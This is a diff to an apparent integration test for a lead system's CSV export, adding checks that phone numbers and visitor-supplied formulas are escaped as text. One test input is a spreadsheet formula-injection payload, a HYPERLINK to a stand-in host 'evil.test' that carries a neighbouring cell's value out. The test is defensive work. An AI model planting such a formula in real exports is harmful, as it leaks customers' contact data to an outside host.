@@ -215,8 +215,15 @@ describe('lead ownership (integration, real database)', () => {
     expect(lines[0]).toBe('Received,Kind,Status,Name,Phone,Email,Car,Assignee,First response,Follow up on,Message,Latest note,Source page');
     expect(lines).toHaveLength(2);
     expect(lines[1]).toMatch(/,\/car\/toyota-prado-2019$/);
-    expect(lines[1]).toContain(',Enquiry,New,"Wanjiku ""Shiru"" Kamau, Jr",+254712345678,');
+    // A phone's + (like any cell a spreadsheet would run as a formula) is kept as text.
+    expect(lines[1]).toContain(`,Enquiry,New,"Wanjiku ""Shiru"" Kamau, Jr",'+254712345678,`);
     expect(lines[1]).toContain(`,${seller.name},`);
+    // A visitor's formula is text in the owner's spreadsheet, never a live link.
+    await send('=HYPERLINK("https://evil.test/?"&E2,"Open")', null, { message: '@SUM(1+1)', email: 'x@example.test' });
+    const hostile = await app.inject({ method: 'GET', url: '/api/leads/export.csv?search=HYPERLINK', headers: { authorization: `Bearer ${await tokenFor(app, people.owner.id)}` } });
+    const [, row] = hostile.body.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.test/?""&E2,""Open"")",'+254712345678,x@example.test,`);
+    expect(row).toContain(",'@SUM(1+1),");
     const refused = await app.inject({ method: 'GET', url: '/api/leads/export.csv', headers: { authorization: `Bearer ${await tokenFor(app, seller.id)}` } });
     expect(refused.statusCode).toBe(403);
   });
